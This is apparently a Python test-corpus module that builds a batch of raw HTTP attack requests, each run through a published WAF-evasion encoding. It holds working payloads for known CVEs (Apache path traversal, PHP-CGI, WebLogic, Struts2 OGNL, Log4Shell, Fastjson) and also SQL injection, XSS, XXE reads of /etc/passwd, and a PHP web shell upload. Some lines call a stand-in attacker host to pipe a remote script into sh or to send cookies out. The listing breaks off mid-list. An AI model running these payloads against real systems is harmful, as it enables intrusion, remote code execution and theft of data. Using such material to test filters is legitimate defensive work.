"""Blind attack batch P: published WAF-evasion techniques (layered encodings, content-type/charset confusion, multipart, HPP, padding, chunked/gzip, verb and path tricks) on working payloads."""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from urllib.parse import quote_from_bytes, quote_plus

_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
       "Chrome/124.0.0.0 Safari/537.36")
_FORM = "Content-Type: application/x-www-form-urlencoded"
_JSON = "Content-Type: application/json"
_XMLCT = "Content-Type: application/xml"
_OOB = "c2vq8k.oob.attacker.example"
_LOREM = ("Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor "
          "incididunt ut labore et dolore magna aliqua. ")


def _s(data: bytes) -> str:
    """Binary bytes -> str that round-trips through utf-8 + surrogateescape."""
    return data.decode("utf-8", "surrogateescape")


def _blen(text: str) -> int:
    return len(text.encode("utf-8", "surrogateescape"))


def _req(method, target, headers=(), body=None, host="www.example.com", length=True, version="HTTP/1.1"):
    """A whole raw request with CRLF line ends and a correct Content-Length."""
    lines = [f"{method} {target} {version}"]
    if host:
        lines.append(f"Host: {host}")
    lines += [f"User-Agent: {_UA}", "Accept: */*"]
    lines.extend(headers)
    if body is not None and length:
        lines.append(f"Content-Length: {_blen(body)}")
    lines.append("Connection: close")
    return "\r\n".join(lines) + "\r\n\r\n" + (body or "")


def _pad(n: int, unit: str = _LOREM) -> str:
    return (unit * (n // len(unit) + 1))[:n]


def _chunked(body: str, size: int = 8, ext: str = "", width: int = 0) -> str:
    data = body.encode("utf-8", "surrogateescape")
    out = bytearray()
    for i in range(0, len(data), size):
        piece = data[i:i + size]
        out += (format(len(piece), "X").rjust(width, "0") + ext + "\r\n").encode() + piece + b"\r\n"
    out += b"0\r\n\r\n"
    return _s(bytes(out))


def _gz(text: str) -> str:
    return _s(gzip.compress(text.encode("utf-8"), mtime=0))


def _deflate(text: str) -> str:
    return _s(zlib.compress(text.encode("utf-8")))


def _ebcdic_form(pairs, codec: str = "cp037") -> str:
    """urlencoded body whose names and values are EBCDIC bytes (IIS/ASP.NET honour charset=ibm037 etc.)."""
    return "&".join(quote_from_bytes(k.encode(codec), safe="") + "=" + quote_from_bytes(v.encode(codec), safe="")
                    for k, v in pairs)


def _utf7(text: str) -> str:
    """Strict UTF-7: everything outside set D / whitespace goes through modified base64."""
    direct = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'(),-./:? \r\n\t")
    out, run = [], ""
    for ch in text:
        if ch in direct:
            if run:
                out.append("+" + base64.b64encode(run.encode("utf-16-be")).decode().rstrip("=") + "-")
                run = ""
            out.append(ch)
        else:
            run += ch
    if run:
        out.append("+" + base64.b64encode(run.encode("utf-16-be")).decode().rstrip("=") + "-")
    return "".join(out)


def _fw(text: str) -> str:
    """ASCII -> fullwidth compatibility forms (NFKC folds them back)."""
    return "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E else c for c in text)


def _mb(text: str) -> str:
    """ASCII letters -> MATHEMATICAL BOLD letters (NFKC folds them back)."""
    res = []
    for c in text:
        if "A" <= c <= "Z":
            res.append(chr(0x1D400 + ord(c) - 65))
        elif "a" <= c <= "z":
            res.append(chr(0x1D41A + ord(c) - 97))
        else:
            res.append(c)
    return "".join(res)


def _ent(text: str, hexa: bool = False, width: int = 0) -> str:
    """HTML numeric character references WITHOUT the trailing semicolon."""
    if hexa:
        return "".join("&#x" + format(ord(c), "x").rjust(width, "0") for c in text)
    return "".join("&#" + str(ord(c)).rjust(width, "0") for c in text)


def _mp_body(boundary: str, parts, preamble: str = "") -> str:
    out = preamble
    for head, content in parts:
        out += "--" + boundary + "\r\n" + "\r\n".join(head) + "\r\n\r\n" + content + "\r\n"
    return out + "--" + boundary + "--\r\n"


def _mpreq(path, boundary, parts, ctype=None, host="www.example.com", preamble="", extra=()):
    ct = ctype or ("multipart/form-data; boundary=" + boundary)
    return _req("POST", path, ["Content-Type: " + ct, *extra], _mp_body(boundary, parts, preamble), host=host)


def _fd(name: str) -> list:
    return [f'Content-Disposition: form-data; name="{name}"']


_XXE_PASSWD = ('<?xml version="1.0" encoding="UTF-8"?>\n'
               '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')
_XXE_OOB = ('<?xml version="1.0"?>\n'
            f'<!DOCTYPE data [<!ENTITY % remote SYSTEM "http://{_OOB}/evil.dtd"> %remote; %send;]>\n')
_PHP_SHELL = "<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; } ?>"
_S2_OGNL = ("%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
            "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
            "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
            "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
            "(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name')"
            ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
            "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
            "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
            "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")


BLIND_ATTACKS_P = [
    # --- layered / double percent-encoding ---
    ("ptrav", "Apache 2.4.50 CVE-2021-42013 %%32%65 double-encoded dot traversal", "raw", "",
     _req("GET", "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd")),
    ("rce", "CVE-2021-42013 cgi-bin traversal to /bin/sh with nibble-encoded dots", "raw", "",
     _req("POST", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
          [_FORM], "echo Content-Type: text/plain; echo; id; uname -a")),
    ("ptrav", "double-encoded slash traversal, include param decoded twice by app", "raw", "",
     _req("GET", "/download.php?file=..%252f..%252f..%252f..%252fetc%252fpasswd")),
    ("ptrav", "double-encoded backslash traversal to web.config (UrlDecode applied twice)", "raw", "",
     _req("GET", "/Handlers/Download.ashx?file=..%255c..%255c..%255cweb.config")),
    ("rce", "IIS double-decode ..%255c to cmd.exe (CVE-2001-0333)", "raw", "",
     _req("GET", "/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir+c:%5C")),
    ("rce", "IIS nibble double-decode ..%%35%63 to cmd.exe", "raw", "",
     _req("GET", "/scripts/..%%35%63..%%35%63winnt/system32/cmd.exe?/c+type+c:%5Cboot.ini")),
    ("sqli", "double-encoded quote/spaces UNION for app calling urldecode() after filtering", "raw", "",
     _req("GET", "/product.php?id=1%2527%2520UNION%2520SELECT%2520NULL%252Cusername%252Cpassword%2520FROM"
                 "%2520users--%2520-")),
    ("xss", "double-encoded script tag reflected after second decode", "raw", "",
     _req("GET", "/search?q=%253Cscript%253Ealert(document.domain)%253C%252Fscript%253E")),
    ("xss", "mixed single/double encoding of img onerror", "raw", "",
     _req("GET", "/catalog/search?term=%3Cimg%2520src%253Dx%2520onerror%253Dalert%25281%2529%3E")),
    ("rce", "double-encoded pipe and slashes in ping host", "raw", "",
     _req("GET", "/diag/ping.php?host=127.0.0.1%257Ccat%2520%252Fetc%252Fpasswd")),
    ("ssti", "double-encoded Jinja2 braces, cycler globals popen", "raw", "",
     _req("GET", "/hello?name=%257B%257Bcycler.__init__.__globals__.os.popen(%2527id%2527).read()%257D%257D")),
    ("php", "double-encoded php://filter wrapper in page param", "raw", "",
     _req("GET", "/index.php?page=php%253A%252F%252Ffilter%252Fconvert.base64-encode%252Fresource%253Dconfig")),
    ("sqli", "every byte percent-encoded, time-based blind", "raw", "",
     _req("GET", "/item.php?id=%31%20%41%4E%44%20%53%4C%45%45%50%28%35%29")),
    ("rce", "hex-encoded command in urlencoded form body", "raw", "",
     _req("POST", "/admin/network/ping", [_FORM],
          "host=127.0.0.1%3B%63%61%74%20%2F%65%74%63%2F%70%61%73%73%77%64")),
    ("nosqli", "percent-encoded brackets and operator name in login form", "raw", "",
     _req("POST", "/login", [_FORM], "username=admin&password%5b%24%6e%65%5d=x")),
    ("java", "WebLogic CVE-2020-14882 double-encoded ../ with MVEL ShellSession", "raw", "",
     _req("GET", "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle="
                 "com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27)%3B%22)%3B",
          host="weblogic.example.com:7001")),

    # --- IIS / ASP.NET %uXXXX encoding ---
    ("xss", "%u-encoded script tag to ASP.NET", "raw", "",
     _req("GET", "/Search.aspx?q=%u003Cscript%u003Ealert(document.cookie)%u003C/script%u003E")),
    ("sqli", "%u-encoded quote and spaces to classic ASP login", "raw", "",
     _req("GET", "/login.asp?user=admin%u0027%u0020OR%u00201%u003D1--&pass=x")),
    ("sqli", "%u-encoded stacked xp_cmdshell on MSSQL", "raw", "",
     _req("GET", "/products.aspx?id=1%u003Bexec%u0020master..xp_cmdshell%u0020%u0027whoami%u0027--")),
    ("ptrav", "%u005c backslash traversal in ASP.NET query", "raw", "",
     _req("GET", "/Download.aspx?file=..%u005c..%u005c..%u005cweb.config")),
    ("xss", "%uFF1C fullwidth brackets best-fit mapped to < > by classic ASP", "raw", "",
     _req("GET", "/default.asp?name=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e")),
    ("sqli", "%uFF07 fullwidth apostrophe best-fit to quote (ASP + MSSQL)", "raw", "",
     _req("GET", "/catalog.asp?cat=books%uff07%20UNION%20SELECT%20name,password%20FROM%20users--")),
    ("rce", "%u0026 ampersand in ASP.NET form body", "raw", "",
     _req("POST", "/tools/Ping.aspx", [_FORM], "__VIEWSTATE=&host=127.0.0.1%u0026whoami")),
    # --- overlong UTF-8 and multibyte charset escapes ---
    ("rce", "IIS Unicode traversal ..%c0%af to cmd.exe (CVE-2000-0884)", "raw", "",
     _req("GET", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir+c:%5C")),
    ("rce", "IIS Unicode traversal ..%c1%1c variant via msadc", "raw", "",
     _req("GET", "/msadc/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+ver")),
    ("ptrav", "Tomcat CVE-2008-2938 overlong %c0%ae dot traversal", "raw", "",
     _req("GET", "/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")),
    ("ptrav", "GlassFish CVE-2017-1000028 overlong dot traversal", "raw", "",
     _req("GET", "/theme/META-INF/" + "%c0%ae%c0%ae/" * 8 + "etc/passwd", host="glassfish.example.com:4848")),
    ("sqli", "GBK %bf%27 multibyte swallows addslashes backslash", "raw", "",
     _req("GET", "/article.php?id=1%bf%27%20UNION%20SELECT%201,user(),database()--%20-")),
    ("sqli", "GBK %df%27 quote escape bypass in login form", "raw", "",
     _req("POST", "/member/login.php", [_FORM], "username=admin%df%27%20or%201%3D1%23&password=x")),
    ("sqli", "Shift_JIS %95%27 lead byte eats escaping backslash", "raw", "",
     _req("POST", "/jp/search.php", ["Content-Type: application/x-www-form-urlencoded; charset=Shift_JIS"],
          "keyword=%95%27%20OR%201%3D1%20--%20")),

    # --- Unicode compatibility forms (NFKC / Windows best-fit) ---
    ("sqli", "fullwidth apostrophe normalised by NFKC before query", "form", "username",
     "admin" + _fw("'") + " OR 1=1-- -"),
    ("sqli", "fullwidth UNION SELECT keywords folded by NFKC", "query", "q",
     _fw("'") + " " + _fw("UNION") + " " + _fw("SELECT") + " username, password " + _fw("FROM") + " users-- -"),
    ("sqli", "mathematical bold keywords folded by NFKC", "query", "search",
     "' " + _mb("UNION") + " " + _mb("SELECT") + " email, password_hash " + _mb("FROM") + " accounts-- -"),
    ("xss", "fullwidth angle brackets NFKC-folded to script tag", "query", "q",
     "\uff1cscript\uff1ealert(document.domain)\uff1c/script\uff1e"),
    ("xss", "small form variant brackets U+FE64/U+FE65", "query", "comment",
     "\ufe64img src=x onerror=alert(1)\ufe65"),
    ("xss", "fullwidth quote and brackets attribute breakout", "form", "display_name",
     "\uff02\uff1e\uff1csvg onload=alert(document.cookie)\uff1e"),
    ("ptrav", "fullwidth full stops and solidus NFKC to ../", "query", "file",
     _fw("../../../") + "etc" + _fw("/") + "passwd"),
    ("ptrav", "yen sign best-fit to backslash on cp932 Windows (WorstFit)", "query", "file",
     "..\u00a5..\u00a5..\u00a5windows\u00a5win.ini"),
    ("ptrav", "fullwidth reverse solidus NFKC to backslash", "query", "path",
     "..\uff3c..\uff3c..\uff3cinetpub\uff3cwwwroot\uff3cweb.config"),
    ("ssti", "fullwidth braces NFKC to Jinja2 delimiters", "form", "name",
     "\uff5b\uff5b self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() \uff5d\uff5d"),
    ("rce", "fullwidth semicolon NFKC command separator", "form", "host", "127.0.0.1\uff1bcat /etc/passwd"),
    ("rce", "fullwidth double quote best-fit breaks escapeshellarg on Windows (WorstFit)", "query", "filename",
     "report\uff02 & whoami & \uff02.pdf"),
    ("php", "PHP-CGI CVE-2024-4577 soft hyphen best-fit to -d", "raw", "",
     _req("POST", "/index.php?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
          [_FORM], "<?php echo shell_exec('whoami'); ?>")),
    ("php", "CVE-2024-4577 via XAMPP /php-cgi/php-cgi.exe", "raw", "",
     _req("POST", "/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3D0+%ADd+disable_functions%3D%22%22+%ADd+"
                  "allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
          [_FORM], "<?php system('powershell -c \"iwr http://" + _OOB + "/x\"'); ?>")),

    # --- HTML entities without semicolons and JS escapes ---
    ("xss", "decimal entities without semicolons in javascript: href", "query", "url",
     '<a href="' + _ent("javascript:alert(1)") + '">click</a>'),
    ("xss", "hex entities without semicolons stealing document.cookie", "form", "website",
     '<a href="' + _ent("javascript:alert(document.cookie)", hexa=True) + '">x</a>'),
    ("xss", "zero-padded decimal entities in unquoted onerror", "query", "q",
     "<img src=x onerror=" + _ent("alert(1)", width=7) + ">"),
    ("xss", "HTML5 named entities &colon; &lpar; in iframe src", "query", "q",
     '<iframe src="javascript&colon;alert&lpar;document&period;domain&rpar;">'),
    ("xss", "entity-encoded parens decoded inside SVG script", "query", "q",
     "<svg><script>alert&#40;document.cookie&#41</script></svg>"),
    ("xss", "attribute injection with semicolon-less hex entities in handler", "query", "ref",
     '" onfocus="&#x61&#x6c&#x65&#x72&#x74(1)" autofocus tabindex="1'),
    ("xss", "&#01 control char before javascript: stripped by URL parser", "query", "next",
     '<a href="&#01javascript:alert(document.domain)">continue</a>'),
    ("xss", "JS unicode escapes in identifier inside script", "query", "term",
     "<script>\\u0061\\u006c\\u0065\\u0072\\u0074(document.domain)</script>"),
    ("xss", "hex string escapes through eval in onerror", "form", "comment",
     "<img src=x onerror=\"eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')\">"),
    ("xss", "tagged template setTimeout with \\x28 escapes", "query", "q",
     "<svg onload=setTimeout`alert\\x28document.domain\\x29`>"),
    ("xss", "octal string escapes via eval in cookie-reflected theme", "cookie", "theme",
     "<svg/onload=eval('\\141\\154\\145\\162\\164\\50\\61\\51')>"),
    ("xss", "percent-encoded body inside javascript: URL", "query", "redirect",
     "javascript:%61%6c%65%72%74%28document.domain%29"),
    ("xss", "ES6 \\u{..} escape in handler, reflected Referer", "header:Referer", "",
     "https://www.google.com/search?q=<svg/onload=\\u{61}lert(1)>"),
    ("xss", "backslash breakout when quotes are escaped but backslash is not", "query", "lang",
     "\\';alert(document.cookie)//"),

    # --- JSON unicode escapes and duplicate keys ---
    ("sqli", "JSON \\u0027 escaped quotes in login", "json", "login",
     r'{"username":"admin\u0027 OR \u00271\u0027=\u00271\u0027-- -","password":"x"}'),
    ("sqli", "JSON \\u-escaped UNION SELECT letters", "json", "id",
     r'{"id":"1 \u0055\u004e\u0049\u004f\u004e \u0053\u0045\u004c\u0045\u0043\u0054 username,password '
     r'\u0046\u0052\u004f\u004d users"}'),
    ("nosqli", "JSON \\u0024ne operator key", "json", "login",
     r'{"username":"admin","password":{"\u0024ne":null}}'),
    ("nosqli", "JSON \\u0024where sleep in query object", "json", "users",
     r'{"username":"admin","\u0024where":"function(){sleep(5000);return true;}"}'),
    ("xss", "JSON \\u003c escaped stored script stealing cookies", "json", "bio",
     r'{"bio":"\u003cscript\u003efetch(\u0027https://evil.example/c?\u0027+document.cookie)\u003c/script\u003e"}'),
    ("ssti", "JSON \\u007b escaped Jinja2 delimiters", "json", "template",
     r'{"template":"\u007b\u007b request.application.__globals__.__builtins__.__import__(\u0027os\u0027).popen(\u0027id\u0027).read() \u007d\u007d"}'),
    ("java", "JSON \\u0024\\u007b escaped Log4Shell in username", "json", "login",
     r'{"username":"\u0024\u007bjndi:ldap://' + _OOB + r'/a\u007d","password":"hunter2"}'),
    ("java", "Fastjson @type JdbcRowSetImpl with \\u-escaped key", "json", "data",
     r'{"\u0040\u0074\u0079\u0070\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + _OOB
     + r':1389/Exploit","autoCommit":true}'),
    ("java", "Fastjson \\x hex-escaped @type with L...; class descriptor", "body:application/json", "orders",
     r'{"\x40\x74\x79\x70\x65":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://' + _OOB
     + r':1099/Exploit","autoCommit":true}'),
    ("sqli", "duplicate JSON key, last value carries time-based payload", "json", "id",
     '{"id":"7","id":"7 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"}'),
    ("nosqli", "duplicate password key, last one is $ne operator", "json", "login",
     '{"username":"admin","password":"guess","password":{"$ne":null}}'),
    ("xss", "duplicate name key, last one is svg payload", "json", "name",
     '{"name":"John","email":"john@example.com","name":"<svg onload=alert(document.domain)>"}'),
    ("ptrav", "JSON \\u002e escaped dots traversal", "json", "file",
     r'{"file":"\u002e\u002e/\u002e\u002e/\u002e\u002e/\u002e\u002e/etc/passwd"}'),
    ("rce", "JSON \\u000a newline command separator in host", "json", "host",
     r'{"host":"127.0.0.1\u000acurl http://' + _OOB + r'/$(whoami)"}'),
    ("php", "JSON \\u003a escaped php://filter in include field", "json", "page",
     r'{"page":"php\u003a//filter/convert.base64-encode/resource=../config.php"}'),

    # --- content-type confusion ---
    ("nosqli", "JSON operator body sent as text/plain", "body:text/plain", "auth/login",
     '{"username":{"$ne":null},"password":{"$ne":null}}'),
    ("sqli", "JSON body labelled urlencoded, app json_decodes php://input", "body:application/x-www-form-urlencoded",
     "orders/search", '{"customer":"x\' OR \'1\'=\'1\' -- -","status":"open"}'),
    ("xxe", "content-type switch: XXE sent to JSON endpoint as application/xml", "body:application/xml", "users",
     _XXE_PASSWD + "<user><name>&xxe;</name><email>a@example.com</email></user>"),
    ("xxe", "XML with OOB parameter entity sent as text/plain", "body:text/plain", "import",
     _XXE_OOB + "<data>1</data>"),
    ("xxe", "XXE inside SOAP 1.2 envelope", "body:application/soap+xml", "soap",
     '<?xml version="1.0"?>\n<!DOCTYPE e [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]>\n'
     '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>'
     '<GetOrder xmlns="http://tempuri.org/"><id>&x;</id></GetOrder></soap:Body></soap:Envelope>'),
    ("xxe", "XML sent as urlencoded body to PHP reading php://input", "body:application/x-www-form-urlencoded",
     "feed", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource='
     '/var/www/html/wp-config.php">]><r>&x;</r>'),
    ("java", "SnakeYAML ScriptEngineManager gadget as application/x-yaml", "body:application/x-yaml", "config",
     '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://' + _OOB
     + '/yaml-payload.jar"]]]]'),
    ("sqli", "JSON:API vnd.api+json body with extractvalue error injection", "body:application/vnd.api+json",
     "articles", '{"data":{"type":"articles","attributes":{"title":"x\' AND extractvalue(1,concat(0x7e,'
     '(SELECT version())))-- -"}}}'),
    ("nosqli", "merge-patch+json PATCH with $set operator", "raw", "",
     _req("PATCH", "/api/users/65f1c0a2e4b0d1a2b3c4d5e6", ["Content-Type: application/merge-patch+json"],
          '{"$set":{"role":"admin","isAdmin":true}}', host="api.example.com")),
    ("rce", "JSON body with no Content-Type header (get_json(force=True))", "raw", "",
     _req("POST", "/api/diagnostics/ping", [], '{"host":"127.0.0.1;id"}', host="api.example.com")),
    ("xss", "text/plain JSON (sendBeacon-style cross-origin) stored XSS", "body:text/plain;charset=UTF-8",
     "comments", '{"postId":42,"comment":"<img src=x onerror=alert(document.cookie)>"}'),
    ("xxe", "text/xml with external DTD fetch", "body:text/xml", "sitemap",
     f'<?xml version="1.0"?>\n<!DOCTYPE urlset SYSTEM "http://{_OOB}/sitemap.dtd">\n<urlset><url>&ext;</url></urlset>'),

    # --- declared charsets: ibm037 / utf-16 / utf-32 / utf-7 / EBCDIC XML ---
    ("sqli", "IIS/ASP.NET form body in charset=ibm037", "raw", "",
     _req("POST", "/Products.aspx", ["Content-Type: application/x-www-form-urlencoded; charset=ibm037"],
          _ebcdic_form([("id", "1' UNION SELECT name, password_hash FROM dbo.Users--")]))),
    ("xss", "ASP.NET form body in charset=ibm500", "raw", "",
     _req("POST", "/Feedback.aspx", ["Content-Type: application/x-www-form-urlencoded; charset=ibm500"],
          _ebcdic_form([("comment", "<script>alert(document.domain)</script>")], "cp500"))),
    ("rce", "ASP.NET form body in charset=ibm1026", "raw", "",
     _req("POST", "/Tools/Ping.aspx", ["Content-Type: application/x-www-form-urlencoded; charset=ibm1026"],
          _ebcdic_form([("host", "127.0.0.1 & whoami")], "cp1026"))),
    ("ptrav", "ASP.NET form body in charset=ibm037 reading web.config", "raw", "",
     _req("POST", "/Download.aspx", ["Content-Type: application/x-www-form-urlencoded; charset=ibm037"],
          _ebcdic_form([("file", "..\\..\\..\\web.config")]))),
    ("sqli", "UTF-16LE JSON with BOM to Jackson auto-detection", "raw", "",
     _req("POST", "/api/customers/search", ["Content-Type: application/json; charset=UTF-16"],
          _s(b"\xff\xfe" + '{"name":"x\' OR 1=1-- ","limit":10}'.encode("utf-16-le")), host="api.example.com")),
    ("java", "UTF-32BE JSON Log4Shell (Jackson detects encoding)", "raw", "",
     _req("POST", "/api/audit/events", ["Content-Type: application/json; charset=UTF-32BE"],
          _s(('{"user":"${jndi:ldap://' + _OOB + '/u32}"}').encode("utf-32-be")), host="api.example.com")),
    ("xxe", "UTF-16 encoded XML document with BOM", "raw", "",
     _req("POST", "/ws/orders", [_XMLCT],
          _s(b"\xff\xfe" + ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE o [<!ENTITY x SYSTEM '
                            '"file:///etc/passwd">]>\n<order><note>&x;</note></order>').encode("utf-16-le")))),
    ("xxe", "UTF-7 encoded XML for libxml2/iconv", "raw", "",
     _req("POST", "/xmlrpc.php", ["Content-Type: text/xml"],
          '<?xml version="1.0" encoding="UTF-7"?>\n'
          + _utf7('<!DOCTYPE methodCall [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                  '<methodCall><methodName>&x;</methodName></methodCall>'))),
    ("xxe", "EBCDIC IBM037 XML document (Xerces autodetects)", "raw", "",
     _req("POST", "/services/InvoiceService", [_XMLCT],
          _s(('<?xml version="1.0" encoding="IBM037"?>\n<!DOCTYPE i [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
              '<invoice><ref>&x;</ref></invoice>').encode("cp037")))),

    # --- multipart/form-data tricks ---
    ("sqli", "quoted multipart boundary containing ';'", "raw", "",
     _mpreq("/profile/update.php", "----=_Part;7f3a", [(_fd("id"), "1 AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT user())))")],
            ctype='multipart/form-data; boundary="----=_Part;7f3a"')),
    ("xss", "unquoted boundary made of tspecials (PHP rfc1867 parser)", "raw", "",
     _mpreq("/guestbook/post.php", "a'b()+_./:=?x", [(_fd("name"), "guest"),
                                                    (_fd("message"), "<svg onload=alert(document.domain)>")])),
    ("ptrav", "filename*= RFC 5987 encoded traversal to webroot", "raw", "",
     _mpreq("/api/upload", "----WebKitFormBoundary7MA4YWxkTrZu0gW",
            [(['Content-Disposition: form-data; name="file"; filename*=UTF-8\'\'..%2F..%2F..%2Fvar%2Fwww%2Fhtml%2Fcmd.php',
               "Content-Type: image/jpeg"], _PHP_SHELL)], host="app.example.com")),
    ("php", "filename*= overrides harmless filename with .php", "raw", "",
     _mpreq("/avatar/upload", "----WebKitFormBoundaryQ2xVb9hN1kLp0sTe",
            [(['Content-Disposition: form-data; name="avatar"; filename="avatar.jpg"; filename*=UTF-8\'\'avatar.php',
               "Content-Type: image/jpeg"], _PHP_SHELL)], host="app.example.com")),
    ("sqli", "duplicate name= param in Content-Disposition (last wins in PHP)", "raw", "",
     _mpreq("/shop/item.php", "----WebKitFormBoundaryX3mNf7Ab9dK2LqPz",
            [(['Content-Disposition: form-data; name="comment"; name="id"'],
              "-1 UNION SELECT 1,concat(user_login,0x3a,user_pass),3 FROM wp_users-- -")])),
    ("php", "duplicate filename= param, last one .php", "raw", "",
     _mpreq("/upload.php", "----WebKitFormBoundaryHr4Tz8Wq1mNc6VbE",
            [(['Content-Disposition: form-data; name="userfile"; filename="photo.jpg"; filename="photo.php"',
               "Content-Type: image/jpeg"], _PHP_SHELL)])),
    ("xss", "upper-case part header and parameter names", "raw", "",
     _mpreq("/contact.php", "----WebKitFormBoundary0aB1cD2eF3gH4iJ5",
            [(['CONTENT-DISPOSITION: FORM-DATA; NAME="subject"'], "hello"),
             (['CONTENT-DISPOSITION: FORM-DATA; NAME="body"'], "<img src=x onerror=alert(document.cookie)>")])),
    ("rce", "folded (obs-fold) Content-Disposition part header", "raw", "",
     _mpreq("/admin/tools.php", "----WebKitFormBoundaryk9L2m3N4o5P6q7R8",
            [(['Content-Disposition: form-data;\r\n\tname="cmd"'], "ping -c 1 127.0.0.1; cat /etc/passwd")])),
    ("java", "Struts2 S2-046 OGNL in multipart filename with NUL byte", "raw", "",
     _mpreq("/struts2-showcase/fileupload/doUpload.action", "----WebKitFormBoundaryS2046xYz",
            [(['Content-Disposition: form-data; name="upload"; filename="' + _S2_OGNL + '\x00b"',
               "Content-Type: text/plain"], "x")], host="struts.example.com:8080")),
    ("sqli", "unquoted name parameter in part header", "raw", "",
     _mpreq("/search.php", "----WebKitFormBoundaryPq8Rs7Tu6Vw5Xy4Z",
            [(["Content-Disposition: form-data; name=search"],
              "' UNION SELECT NULL,table_name,NULL FROM information_schema.tables-- -")])),
    ("sqli", "same field twice in multipart, PHP keeps the last", "raw", "",
     _mpreq("/news.php", "----WebKitFormBoundaryZ1y2X3w4V5u6T7s8",
            [(_fd("id"), "12"), (_fd("token"), "a91f3c"),
             (_fd("id"), "12 AND UPDATEXML(1,CONCAT(0x7e,(SELECT database()),0x7e),1)")])),
    ("xss", "upper-case MULTIPART/FORM-DATA; BOUNDARY=", "raw", "",
     _mpreq("/forum/reply.php", "AaB03x", [(_fd("thread"), "88"), (_fd("text"), "<details open ontoggle=alert(1)>")],
            ctype="MULTIPART/FORM-DATA; BOUNDARY=AaB03x")),
    ("rce", "preamble junk before first boundary", "raw", "",
     _mpreq("/cgi-bin/diag.php", "xYzZY",
            [(_fd("target"), "8.8.8.8 && curl -s http://" + _OOB + "/s.sh | sh")],
            preamble="This is a multi-part message in MIME format.\r\n--xYz\r\nContent-Type: text/plain\r\n\r\nhello\r\n")),
    ("nosqli", "bracketed field name in multipart parsed by multer/append-field", "raw", "",
     _mpreq("/api/login", "----WebKitFormBoundaryMongo0n3Sx1",
            [(_fd("username"), "admin"), (_fd("password[$ne]"), "x")], host="app.example.com")),
    ("xxe", "SVG upload with XXE labelled image/png", "raw", "",
     _mpreq("/media/upload", "----WebKitFormBoundarySvgXxe4K9",
            [(['Content-Disposition: form-data; name="image"; filename="logo.svg"', "Content-Type: image/png"],
              '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
              '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="80"><text x="0" y="40">&x;</text></svg>')])),
    ("ssti", "tab-separated Content-Disposition parameters", "raw", "",
     _mpreq("/newsletter/preview", "----WebKitFormBoundaryTw1gT3mpl8",
            [(['Content-Disposition:\tform-data;\tname="message"'],
              "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}")])),
    ("java", "Log4Shell in part Content-Type header", "raw", "",
     _mpreq("/api/documents", "----WebKitFormBoundaryL4jPartHdr",
            [(['Content-Disposition: form-data; name="doc"; filename="q3.pdf"',
               "Content-Type: ${jndi:ldap://" + _OOB + "/ct}"], "%PDF-1.4\n%EOF")], host="app.example.com")),
    ("ptrav", "strip-once ....// traversal in upload filename", "multipart", "file",
     "....//....//....//var/www/html/cmd.php"),
    ("xss", "filename reflected in upload list", "multipart", "file", '"><svg onload=alert(document.domain)>.png'),
    ("java", "Log4Shell in logged upload filename", "multipart", "file", "${jndi:ldap://" + _OOB + "/up}.png"),
    ("php", "trailing dot filename stripped by Windows to .php", "multipart", "file", "shell.php."),
    ("php", "NTFS ::$DATA stream filename writes shell.php", "multipart", "file", "shell.php::$DATA"),
